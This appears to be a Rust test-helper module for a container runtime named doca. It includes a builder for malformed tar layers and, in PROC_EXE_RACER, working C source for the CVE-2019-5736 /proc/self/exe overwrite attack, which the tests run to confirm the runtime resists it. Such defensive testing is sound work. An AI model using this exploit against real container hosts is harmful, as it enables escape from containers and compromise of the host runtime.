//! Dev-only helpers for doca's tests: temp store roots, the `doca` binary, the busybox fixture,
//! and a builder for layers and archives, hostile ones included.

#![forbid(unsafe_code)]

use sha2::{Digest as _, Sha256};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::OnceLock;

/// Skips a test (with a note on stderr) unless running as root.
#[macro_export]
macro_rules! require_root {
    () => {
        if !$crate::is_root() {
            eprintln!("skipped: needs root");
            return;
        }
    };
}

/// Skips a test when a peer tool is missing, except in CI (`CI=true`), where it fails: CI
/// installs every peer, so a missing one is a broken set-up, not a reason to pass.
#[macro_export]
macro_rules! require_tool {
    ($t:expr) => {
        if !$crate::have_tool($t) {
            if std::env::var("CI").map(|v| v == "true").unwrap_or(false) {
                panic!("{} is required in CI", $t);
            }
            eprintln!("skipped: {} not installed", $t);
            return;
        }
    };
}

pub fn is_root() -> bool {
    // SAFETY-free: read the effective uid from /proc to avoid a libc dependency.
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| s.lines().find(|l| l.starts_with("Uid:")).map(|l| l.split_whitespace().nth(2) == Some("0")))
        .unwrap_or(false)
}

pub fn have_tool(t: &str) -> bool {
    Command::new("sh").arg("-c").arg(format!("command -v {t}")).stdout(Stdio::null()).status().map(|s| s.success()).unwrap_or(false)
}

pub fn sha256_hex(b: &[u8]) -> String {
    hex::encode(Sha256::digest(b))
}

/// The proxy every doca a test runs is given: a loopback port nobody listens on (9, discard).
pub const OFFLINE_PROXY: &str = "http://127.0.0.1:9";

/// A store root (and run root) of the test's own, removed at drop.
pub struct TempRoot {
    pub dir: tempfile::TempDir,
    pub bin: PathBuf,
}

impl TempRoot {
    pub fn new(bin: &str) -> Self {
        let base = std::env::var_os("DOCA_TEST_TMP").map(PathBuf::from).unwrap_or_else(std::env::temp_dir);
        TempRoot { dir: tempfile::Builder::new().prefix("doca-test-").tempdir_in(base).expect("tempdir"), bin: PathBuf::from(bin) }
    }
    pub fn root(&self) -> PathBuf {
        self.dir.path().join("root")
    }
    pub fn path(&self, p: &str) -> PathBuf {
        self.dir.path().join(p)
    }
    pub fn cmd(&self) -> Command {
        let mut c = Command::new(&self.bin);
        c.env("DOCA_ROOT", self.root()).env("DOCA_RUN_ROOT", self.dir.path().join("run")).env_remove("DOCA_MAX_LAYER_SIZE");
        // No test reaches the internet (Docker Hub for an image a test forgot to make, a
        // mirror, an ADD URL): doca's HTTP client honours the proxy variables, so everything
        // but loopback goes to a proxy port nobody listens on and fails at once.
        for v in ["ALL_PROXY", "all_proxy", "HTTP_PROXY", "http_proxy", "https_proxy", "no_proxy"] {
            c.env_remove(v);
        }
        c.env("HTTPS_PROXY", OFFLINE_PROXY).env("NO_PROXY", "127.0.0.1,localhost");
        c
    }
    /// Runs doca with `args`, stdin closed.
    pub fn run(&self, args: &[&str]) -> Output {
        self.cmd().args(args).stdin(Stdio::null()).output().expect("spawn doca")
    }
    /// Runs doca and asserts success, returning stdout.
    pub fn ok(&self, args: &[&str]) -> String {
        let o = self.run(args);
        assert!(
            o.status.success(),
            "doca {args:?} failed ({:?}):\nstdout: {}\nstderr: {}",
            o.status.code(),
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        );
        String::from_utf8(o.stdout).expect("utf8")
    }
    /// Runs doca, asserts it fails with `code`, returns stderr.
    pub fn fails(&self, args: &[&str], code: i32) -> String {
        let o = self.run(args);
        assert_eq!(
            o.status.code(),
            Some(code),
            "doca {args:?}:\nstdout: {}\nstderr: {}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        );
        String::from_utf8(o.stderr).expect("utf8")
    }
    /// Every file under the store root (path, type, mode, size, content hash), sorted: equal
    /// fingerprints mean an equal store. The metadata database counts by its content (every
    /// row of every table, the WAL included), not its bytes: when SQLite checkpoints is not
    /// the store's state. The event log is left out.
    pub fn fingerprint(&self) -> Vec<String> {
        fingerprint(&self.root())
    }
    /// Imports the busybox fixture as `tag`.
    pub fn busybox(&self, tag: &str) -> String {
        self.ok(&["import", "-c", "CMD [\"sh\"]", busybox_tar().to_str().expect("utf8"), tag]).trim().to_string()
    }
}

pub fn fingerprint(root: &Path) -> Vec<String> {
    use std::os::unix::fs::MetadataExt;
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(p) = stack.pop() {
        let Ok(m) = std::fs::symlink_metadata(&p) else { continue };
        let rel = p.strip_prefix(root).unwrap_or(&p).display().to_string();
        // The event log grows with every operation that succeeds, undone or not: it is the
        // store's history, not its state.
        if rel.ends_with("-wal") || rel.ends_with("-shm") || rel == "store.lock" || rel.starts_with("events.log") {
            continue;
        }
        if rel == "doca.db" {
            out.push(format!("doca.db {}", db_content(&p)));
            continue;
        }
        let content = if m.is_file() { sha256_hex(&std::fs::read(&p).unwrap_or_default()) } else { String::new() };
        out.push(format!("{rel} {:o} {} {content}", m.mode(), if m.is_dir() { 0 } else { m.len() }));
        if m.is_dir() {
            for e in std::fs::read_dir(&p).into_iter().flatten().flatten() {
                stack.push(e.path());
            }
        }
    }
    out.sort();
    out
}

/// A hash of every row of every table of an SQLite database, read through its WAL.
fn db_content(path: &Path) -> String {
    let Ok(conn) = rusqlite::Connection::open_with_flags(path, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY) else {
        return "unreadable".into();
    };
    let _ = conn.busy_timeout(std::time::Duration::from_secs(30));
    let mut dump = String::new();
    let tables: Vec<String> = conn
        .prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
        .and_then(|mut st| st.query_map([], |r| r.get(0))?.collect())
        .unwrap_or_default();
    for t in tables {
        dump.push_str(&format!("[{t}]\n"));
        let Ok(mut st) = conn.prepare(&format!("SELECT * FROM \"{t}\"")) else { continue };
        let n = st.column_count();
        let mut rows: Vec<String> = st
            .query_map([], |r| {
                Ok((0..n)
                    .map(|i| format!("{:?}", r.get_ref(i).map(|v| format!("{v:?}")).unwrap_or_default()))
                    .collect::<Vec<_>>()
                    .join("|"))
            })
            .map(|it| it.flatten().collect())
            .unwrap_or_default();
        rows.sort();
        for r in rows {
            dump.push_str(&r);
            dump.push('\n');
        }
    }
    let version: i64 = conn.pragma_query_value(None, "user_version", |r| r.get(0)).unwrap_or(-1);
    dump.push_str(&format!("user_version {version}\n"));
    sha256_hex(dump.as_bytes())
}

/// The busybox rootfs tarball from Debian's busybox-static, built by scripts/mkbusybox.sh.
/// It is cached in one place for all test processes, keyed by the script and the busybox
/// binary, and written to a temp name then renamed, so parallel test binaries share it safely
/// and runs leave no copies behind.
pub fn busybox_tar() -> &'static Path {
    static P: OnceLock<PathBuf> = OnceLock::new();
    P.get_or_init(|| {
        use std::os::unix::fs::MetadataExt;
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../scripts/mkbusybox.sh");
        let bb = std::fs::metadata("/bin/busybox").expect("/bin/busybox (apt-get install busybox-static)");
        let key =
            sha256_hex(format!("{}:{}:{}", std::fs::read_to_string(&script).expect("mkbusybox.sh"), bb.size(), bb.mtime()).as_bytes());
        let out = std::env::temp_dir().join(format!("doca-fixture-busybox-{}.tar", &key[..16]));
        if !out.exists() {
            let tmp = out.with_extension(format!("tmp{}", std::process::id()));
            let st = Command::new("sh").arg(&script).arg(&tmp).status().expect("run mkbusybox.sh");
            assert!(st.success(), "mkbusybox.sh failed (is busybox-static installed?)");
            std::fs::rename(&tmp, &out).expect("install fixture");
        }
        out
    })
}

/// A static program compiled from C `source` with gcc (glibc's libc.a): what an attack test
/// runs inside a busybox container, where there is no libc and no compiler. Cached by the
/// source's digest for all test processes, written to a temp name then renamed.
pub fn c_program(name: &str, source: &str) -> PathBuf {
    let key = sha256_hex(source.as_bytes());
    let out = std::env::temp_dir().join(format!("doca-fixture-{name}-{}", &key[..16]));
    if !out.exists() {
        let src = out.with_extension(format!("{}.c", std::process::id()));
        let tmp = out.with_extension(format!("tmp{}", std::process::id()));
        std::fs::write(&src, source).expect("write C source");
        let o = Command::new("gcc")
            .args(["-static", "-O2", "-Wall", "-o"])
            .arg(&tmp)
            .arg(&src)
            .output()
            .expect("run gcc (apt-get install gcc libc6-dev)");
        let _ = std::fs::remove_file(&src);
        assert!(o.status.success(), "gcc {name}: {}", String::from_utf8_lossy(&o.stderr));
        std::fs::rename(&tmp, &out).expect("install program");
    }
    out
}

/// CVE-2019-5736's attack, in C for a static build (`c_program`): `racer [health]` (with
/// "health", it first replaces /bin/sh by a `#!/proc/self/exe` trap) waits for a process whose
/// executable is doca-runc, holds its `/proc/PID/exe`, and writes through it once it is no longer
/// busy. It prints "caught pid ..." and one verdict: "WROTE the runtime binary" or "verdict: ...".
pub const PROC_EXE_RACER: &str = r##"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* racer [health]: with "health", first replace /bin/sh by the trap. Then wait for a process
   whose executable is doca-runc, hold its /proc/PID/exe, and write through it once it is no
   longer busy. Prints one verdict line. */
int main(int argc, char **argv) {
    if (argc > 1 && strcmp(argv[1], "health") == 0) {
        unlink("/bin/sh");
        int f = open("/bin/sh", O_WRONLY | O_CREAT | O_TRUNC, 0755);
        if (f < 0 || write(f, "#!/proc/self/exe\n", 17) != 17) { printf("trap: %s\n", strerror(errno)); return 1; }
        close(f);
    }
    printf("ready\n");
    fflush(stdout);
    pid_t self = getpid();
    time_t end = time(NULL) + 90;
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == self) continue;
            char p[64], link[4096];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            ssize_t n = readlink(p, link, sizeof link - 1);
            if (n < 0) continue;
            link[n] = 0;
            if (!strstr(link, "doca-runc")) continue;
            int fd = open(p, O_PATH);
            if (fd < 0) continue;
            printf("caught pid %d running %s\n", pid, link);
            fflush(stdout);
            char fdp[64];
            snprintf(fdp, sizeof fdp, "/proc/self/fd/%d", fd);
            for (int i = 0; i < 10000; i++) {
                int w = open(fdp, O_WRONLY | O_TRUNC);
                if (w >= 0) {
                    const char payload[] = "#!/bin/sh\necho overwritten by a container\n";
                    if (write(w, payload, sizeof payload - 1) > 0) printf("WROTE the runtime binary\n");
                    else printf("verdict: write refused: %s\n", strerror(errno));
                    return 0;
                }
                if (errno != ETXTBSY) { printf("verdict: open for writing refused: %s\n", strerror(errno)); return 0; }
                usleep(1000);
            }
            printf("verdict: still busy after 10 s\n");
            return 0;
        }
        if (d) closedir(d);
    }
    printf("verdict: nothing caught\n");
    return 0;
}
"##;

/// Builds layer tarballs entry by entry, including entries no well-behaved tool writes.
pub struct Layer {
    b: tar::Builder<Vec<u8>>,
}

impl Default for Layer {
    fn default() -> Self {
        Self::new()
    }
}

fn header(kind: tar::EntryType, mode: u32, size: u64) -> tar::Header {
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(kind);
    h.set_mode(mode);
    h.set_size(size);
    h.set_mtime(1_700_000_000);
    h.set_uid(0);
    h.set_gid(0);
    h
}

impl Layer {
    pub fn new() -> Self {
        Layer { b: tar::Builder::new(Vec::new()) }
    }
    /// A header whose name bytes are written as given: no validation (for hostile entries).
    fn raw(&mut self, mut h: tar::Header, name: &str, link: Option<&str>, data: &[u8]) -> &mut Self {
        {
            let n = &mut h.as_old_mut().name;
            n.fill(0);
            n[..name.len()].copy_from_slice(name.as_bytes());
        }
        if let Some(l) = link {
            let n = &mut h.as_old_mut().linkname;
            n.fill(0);
            n[..l.len()].copy_from_slice(l.as_bytes());
        }
        h.set_cksum();
        self.b.append(&h, data).expect("append");
        self
    }
    pub fn dir(&mut self, name: &str, mode: u32) -> &mut Self {
        self.raw(header(tar::EntryType::Directory, mode, 0), name, None, &[])
    }
    pub fn file(&mut self, name: &str, data: &[u8]) -> &mut Self {
        self.file_with(name, data, 0o644, 0, 0)
    }
    pub fn file_with(&mut self, name: &str, data: &[u8], mode: u32, uid: u64, gid: u64) -> &mut Self {
        let mut h = header(tar::EntryType::Regular, mode, data.len() as u64);
        h.set_uid(uid);
        h.set_gid(gid);
        self.raw(h, name, None, data)
    }
    pub fn symlink(&mut self, name: &str, target: &str) -> &mut Self {
        self.raw(header(tar::EntryType::Symlink, 0o777, 0), name, Some(target), &[])
    }
    pub fn hardlink(&mut self, name: &str, target: &str) -> &mut Self {
        self.raw(header(tar::EntryType::Link, 0o644, 0), name, Some(target), &[])
    }
    pub fn node(&mut self, name: &str, kind: tar::EntryType, major: u32, minor: u32, mode: u32) -> &mut Self {
        let mut h = header(kind, mode, 0);
        h.set_device_major(major).expect("major");
        h.set_device_minor(minor).expect("minor");
        self.raw(h, name, None, &[])
    }
    /// A file with PAX records (long names, xattrs, sub-second mtimes).
    pub fn pax_file(&mut self, name: &str, data: &[u8], records: &[(&str, &[u8])]) -> &mut Self {
        let mut pax = Vec::new();
        let mut recs: Vec<(&str, &[u8])> = records.to_vec();
        recs.push(("path", name.as_bytes()));
        for (k, v) in recs {
            // "%d %s=%s\n" where the length counts itself.
            let body =
                format!(" {k}=").into_bytes().into_iter().chain(v.iter().copied()).chain(std::iter::once(b'\n')).collect::<Vec<u8>>();
            let mut len = body.len() + 1;
            while format!("{len}").len() + body.len() != len {
                len += 1;
            }
            pax.extend(format!("{len}").into_bytes());
            pax.extend(body);
        }
        self.raw(header(tar::EntryType::XHeader, 0o644, pax.len() as u64), "PaxHeaders/x", None, &pax);
        let short: String = name.chars().rev().take(90).collect::<Vec<_>>().into_iter().rev().collect();
        self.raw(header(tar::EntryType::Regular, 0o644, data.len() as u64), &short, None, data)
    }
    /// A file whose long name goes in a GNU `././@LongLink` entry.
    pub fn gnu_long_file(&mut self, name: &str, data: &[u8]) -> &mut Self {
        let mut n = name.as_bytes().to_vec();
        n.push(0);
        self.raw(header(tar::EntryType::GNULongName, 0o644, n.len() as u64), "././@LongLink", None, &n);
        self.raw(header(tar::EntryType::Regular, 0o644, data.len() as u64), &name[..90], None, data)
    }
    pub fn finish(&mut self) -> Vec<u8> {
        let b = std::mem::replace(&mut self.b, tar::Builder::new(Vec::new()));
        b.into_inner().expect("finish tar")
    }
}

/// One image for `docker_archive`.
pub struct ArchiveImage {
    pub layers: Vec<Vec<u8>>,
    pub tags: Vec<String>,
    /// Extra config fields (merged into the top level).
    pub created: String,
}

/// Writes a docker-archive in the pre-25 layout (`<id>/layer.tar`, `<config>.json`,
/// `manifest.json`), as `docker save` 20.10 does. Returns the config digests.
pub fn docker_archive(images: &[ArchiveImage]) -> (Vec<u8>, Vec<String>) {
    let mut b = tar::Builder::new(Vec::new());
    let mut manifest = Vec::new();
    let mut configs = Vec::new();
    let mut written = std::collections::HashSet::new();
    for img in images {
        let diff_ids: Vec<String> = img.layers.iter().map(|l| format!("sha256:{}", sha256_hex(l))).collect();
        let config = serde_json::json!({
            "architecture": "amd64", "os": "linux", "created": img.created,
            "config": {"Cmd": ["sh"]},
            "rootfs": {"type": "layers", "diff_ids": diff_ids},
            "history": img.layers.iter().map(|_| serde_json::json!({"created": img.created, "created_by": "test"})).collect::<Vec<_>>(),
        });
        let cbytes = serde_json::to_vec(&config).expect("json");
        let chex = sha256_hex(&cbytes);
        let mut layer_paths = Vec::new();
        for l in &img.layers {
            let id = sha256_hex(l);
            let path = format!("{id}/layer.tar");
            if written.insert(id.clone()) {
                let mut h = header(tar::EntryType::Regular, 0o644, l.len() as u64);
                b.append_data(&mut h, &path, &l[..]).expect("append");
            }
            layer_paths.push(path);
        }
        let mut h = header(tar::EntryType::Regular, 0o644, cbytes.len() as u64);
        b.append_data(&mut h, format!("{chex}.json"), &cbytes[..]).expect("append");
        manifest.push(serde_json::json!({"Config": format!("{chex}.json"), "RepoTags": img.tags, "Layers": layer_paths}));
        configs.push(format!("sha256:{chex}"));
    }
    let m = serde_json::to_vec(&manifest).expect("json");
    let mut h = header(tar::EntryType::Regular, 0o644, m.len() as u64);
    b.append_data(&mut h, "manifest.json", &m[..]).expect("append");
    (b.into_inner().expect("tar"), configs)
}

/// A single-image archive of one layer, tagged `tag`.
pub fn one_layer_archive(layer: Vec<u8>, tag: &str) -> Vec<u8> {
    docker_archive(&[ArchiveImage { layers: vec![layer], tags: vec![tag.to_string()], created: "2024-01-01T00:00:00Z".into() }]).0
}

/// Debian's podman with all its state in `dir`: its own containers.conf (podman's default
/// RLIMIT_NOFILE/NPROC of 1048576 cannot be set by root on these hosts, see
/// shared/MACHINE-NOTES.md), cgroupfs, file events. Dropping it removes containers, images and
/// any overlay mount left under `dir`.
pub struct Podman {
    dir: PathBuf,
    runtime: Option<PathBuf>,
}

impl Podman {
    pub fn new(dir: &Path) -> Self {
        std::fs::create_dir_all(dir).expect("podman dir");
        std::fs::write(
            dir.join("containers.conf"),
            "[containers]\ndefault_ulimits = [\"nofile=20000:20000\", \"nproc=32768:32768\"]\n[engine]\nevents_logger = \"file\"\ncgroup_manager = \"cgroupfs\"\n",
        )
        .expect("containers.conf");
        Podman { dir: dir.to_path_buf(), runtime: None }
    }

    /// Every container runs on this OCI runtime (podman --runtime).
    pub fn with_runtime(mut self, runtime: &Path) -> Self {
        self.runtime = Some(runtime.to_path_buf());
        self
    }

    pub fn cmd(&self) -> Command {
        let mut c = Command::new("podman");
        c.env("CONTAINERS_CONF", self.dir.join("containers.conf"))
            .arg("--root")
            .arg(self.dir.join("root"))
            .arg("--runroot")
            .arg(self.dir.join("run"))
            .args(["--storage-driver", "overlay", "--tmpdir"])
            .arg(self.dir.join("tmp"));
        if let Some(r) = &self.runtime {
            c.arg("--runtime").arg(r);
        }
        c
    }
}

impl Drop for Podman {
    fn drop(&mut self) {
        let _ = self.cmd().args(["rm", "-a", "-f"]).output();
        let _ = self.cmd().args(["system", "reset", "-f"]).output();
        let root = self.dir.to_string_lossy().to_string();
        if let Ok(m) = std::fs::read_to_string("/proc/mounts") {
            for p in m.lines().filter_map(|l| l.split_whitespace().nth(1)).filter(|p| p.starts_with(&root)) {
                let _ = Command::new("umount").arg("-l").arg(p).status();
            }
        }
    }
}

/// A store with the busybox image whose containers live under a cgroup parent of their own
/// (`prefix-PID-N`); dropping it removes every container (and, with `volumes`, their
/// anonymous volumes) and the cgroup parent, even when the test failed, and checks that no
/// mount is left under the store.
pub struct ContainerEnv {
    pub t: TempRoot,
    pub cgroup: String,
}

impl ContainerEnv {
    pub fn new(bin: &str, prefix: &str) -> ContainerEnv {
        use std::sync::atomic::{AtomicUsize, Ordering};
        static N: AtomicUsize = AtomicUsize::new(0);
        let t = TempRoot::new(bin);
        t.busybox("busybox:latest");
        ContainerEnv { t, cgroup: format!("{prefix}-{}-{}", std::process::id(), N.fetch_add(1, Ordering::SeqCst)) }
    }

    /// `doca VERB --cgroup-parent THIS ARGS...` (for run and create).
    pub fn args<'a>(&'a self, verb: &'a str, args: &[&'a str]) -> Vec<&'a str> {
        let mut v = vec![verb, "--cgroup-parent", self.cgroup.as_str()];
        v.extend_from_slice(args);
        v
    }
}

impl Drop for ContainerEnv {
    fn drop(&mut self) {
        let ids = self.t.run(&["ps", "-aq", "--no-trunc"]);
        for id in String::from_utf8_lossy(&ids.stdout).lines() {
            let _ = self.t.run(&["rm", "-f", id]);
        }
        remove_cgroup_parent(&self.cgroup);
        // The store's networks: user-defined ones by name, then the default bridge and the
        // firewall table, named after the store's root (doca-<6 hex of sha256(root)>).
        let nets = self.t.run(&["network", "ls", "-q", "--no-trunc", "--filter", "type=custom"]);
        for id in String::from_utf8_lossy(&nets.stdout).lines() {
            let _ = self.t.run(&["network", "rm", id]);
        }
        let tag = format!("doca-{}", &sha256_hex(self.t.root().as_os_str().as_encoded_bytes())[..6]);
        let _ = Command::new("ip").args(["link", "del", &tag]).stderr(std::process::Stdio::null()).status();
        let _ = Command::new("nft").args(["delete", "table", "inet", &tag]).stderr(std::process::Stdio::null()).status();
        let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
        let root = self.t.dir.path().display().to_string();
        assert!(!mounts.contains(&root) || std::thread::panicking(), "mounts left under {root}:\n{mounts}");
    }
}

/// Removes a test's cgroup parent in every hierarchy. A monitor deletes its container's cgroup
/// just after the exit reaches the CLI, so the children may outlive the last command by a few
/// milliseconds: retried for a while. (Containers whose runtime state a test wiped, a
/// simulated reboot, leave their cgroups: removed here too.)
pub fn remove_cgroup_parent(name: &str) {
    for _ in 0..100 {
        let mut left = false;
        for h in std::fs::read_dir("/sys/fs/cgroup").into_iter().flatten().flatten() {
            let parent = h.path().join(name);
            if !parent.exists() {
                continue;
            }
            for c in std::fs::read_dir(&parent).into_iter().flatten().flatten() {
                if c.path().is_dir() {
                    let _ = std::fs::remove_dir(c.path());
                }
            }
            left |= std::fs::remove_dir(&parent).is_err() && parent.exists();
        }
        if !left {
            return;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

/// A TCP port free on loopback now.
pub fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

/// docker-registry on a free loopback port, with its own storage; killed when dropped.
pub struct DistRegistry {
    pub port: u16,
    child: Child,
    _dir: tempfile::TempDir,
}

impl DistRegistry {
    pub fn start(htpasswd: Option<(&str, &str)>) -> DistRegistry {
        let dir = tempfile::tempdir().unwrap();
        let mut extra = String::new();
        if let Some((user, pass)) = htpasswd {
            let out = Command::new("htpasswd").args(["-Bbn", user, pass]).output().unwrap();
            std::fs::write(dir.path().join("htpasswd"), out.stdout).unwrap();
            extra.push_str(&format!("auth:\n  htpasswd:\n    realm: test\n    path: {}\n", dir.path().join("htpasswd").display()));
        }
        Self::start_in(dir, "", &extra)
    }

    /// With `http_extra` under `http:` and `extra` at the top of its config.
    pub fn start_in(dir: tempfile::TempDir, http_extra: &str, extra: &str) -> DistRegistry {
        let port = free_port();
        let config = format!(
            "version: 0.1\nlog:\n  level: error\nstorage:\n  filesystem:\n    rootdirectory: {}\nhttp:\n  addr: 127.0.0.1:{port}\n{http_extra}{extra}",
            dir.path().join("data").display()
        );
        std::fs::write(dir.path().join("config.yml"), config).unwrap();
        let child = Command::new("docker-registry")
            .arg("serve")
            .arg(dir.path().join("config.yml"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        for _ in 0..100 {
            if TcpStream::connect(("127.0.0.1", port)).is_ok() {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        DistRegistry { child, port, _dir: dir }
    }

    pub fn host(&self) -> String {
        format!("127.0.0.1:{}", self.port)
    }
}

impl Drop for DistRegistry {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn openssl(dir: &Path, args: &[&str]) {
    let o = Command::new("openssl").args(args).current_dir(dir).output().unwrap();
    assert!(o.status.success(), "openssl {args:?}: {}", String::from_utf8_lossy(&o.stderr));
}

/// A CA (`ca.crt`), a server certificate for 127.0.0.1 (`server.crt`, `server.key`) and a
/// client certificate (`client.crt`, `client.key`), made for a test in `dir`.
pub fn make_certs(dir: &Path) {
    openssl(
        dir,
        &[
            "req",
            "-x509",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-keyout",
            "ca.key",
            "-out",
            "ca.crt",
            "-days",
            "2",
            "-subj",
            "/CN=doca test CA",
        ],
    );
    for (name, cn, ext) in
        [("server", "127.0.0.1", "subjectAltName=IP:127.0.0.1"), ("client", "doca client", "extendedKeyUsage=clientAuth")]
    {
        openssl(
            dir,
            &[
                "req",
                "-newkey",
                "rsa:2048",
                "-nodes",
                "-keyout",
                &format!("{name}.key"),
                "-out",
                &format!("{name}.csr"),
                "-subj",
                &format!("/CN={cn}"),
            ],
        );
        std::fs::write(dir.join(format!("{name}.ext")), ext).unwrap();
        openssl(
            dir,
            &[
                "x509",
                "-req",
                "-in",
                &format!("{name}.csr"),
                "-CA",
                "ca.crt",
                "-CAkey",
                "ca.key",
                "-CAcreateserial",
                "-out",
                &format!("{name}.crt"),
                "-days",
                "2",
                "-extfile",
                &format!("{name}.ext"),
            ],
        );
    }
}
